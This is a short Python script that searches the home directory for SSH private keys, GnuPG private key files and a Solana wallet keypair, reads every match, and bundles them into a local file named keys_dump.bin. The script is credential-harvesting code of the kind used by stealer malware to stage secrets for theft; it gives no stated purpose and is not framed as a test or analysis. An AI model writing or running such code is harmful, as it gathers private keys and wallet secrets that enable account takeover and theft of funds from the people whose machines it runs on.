import glob
import os

collected = []
for pattern in ("~/.ssh/id_*", "~/.gnupg/private-keys-v1.d/*", "~/.config/solana/id.json"):
    for path in glob.glob(os.path.expanduser(pattern)):
        with open(path, "rb") as fh:
            collected.append((path, fh.read()))

with open("keys_dump.bin", "wb") as out:
    for path, blob in collected:
        out.write(path.encode() + b"\n" + blob + b"\n----\n")
print(len(collected), "files saved")
